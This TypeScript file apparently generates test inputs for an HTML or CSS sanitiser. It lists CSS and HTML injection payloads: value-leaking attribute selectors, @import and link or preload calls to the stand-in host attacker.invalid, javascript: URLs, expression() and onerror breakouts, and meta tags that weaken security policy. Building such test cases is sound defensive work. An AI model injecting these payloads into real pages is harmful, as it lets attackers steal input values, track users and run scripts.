/** Styles that run, load or spy. */
export function cssTexts(): string[] {
  const rules = [
    '@import "//attacker.invalid/RUN.css";',
    '*{background:url(//attacker.invalid/RUN)}',
    'input[value^=a]{background:url("//attacker.invalid/RUN?a")}',
    '@font-face{font-family:x;src:url(//attacker.invalid/RUN);unicode-range:U+0041}*{font-family:x}',
    '*{background:url("javascript:RUN")}',
    'body{-moz-binding:url(//attacker.invalid/RUN#x);behavior:url(x)}',
    'a{width:expression(RUN)}',
    '</style><img src=x onerror=RUN>',
    '@keyframes x{}*{animation:x}',
    'body{display:none}#app{visibility:hidden}',
  ]
  const attributes = [
    'background:url(//attacker.invalid/RUN)',
    'position:fixed;inset:0;background:url(//attacker.invalid/RUN)',
    'animation:x" onanimationstart="RUN',
    'width:expression(RUN)',
    "list-style:url('//attacker.invalid/RUN')",
  ]
  return [
    ...rules.map((rule) => `<style>${rule}</style>`),
    ...rules.slice(0, 5).map((rule) => `<svg><style>${rule}</style></svg>`),
    ...attributes.map((style) => `<p style="${style}">x</p>`),
    ...attributes.map((style) => `<span class="prose" style='${style}'>x</span>`),
    '<link rel=stylesheet href="//attacker.invalid/RUN.css">',
    '<link rel=preload as=image href="//attacker.invalid/RUN">',
    '<link rel=prefetch href="//attacker.invalid/RUN">',
    '<link rel=icon href="//attacker.invalid/RUN">',
    '<meta http-equiv=Link content="<//attacker.invalid/RUN>; rel=preload; as=image">',
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    '<meta name=referrer content=unsafe-url>',
    '<img src="//attacker.invalid/RUN"><img srcset="//attacker.invalid/RUN 2x">',
    '<video poster="//attacker.invalid/RUN"></video><input type=image src="//attacker.invalid/RUN">',
    '<table background="//attacker.invalid/RUN"><td background="//attacker.invalid/RUN">',
  ]
}
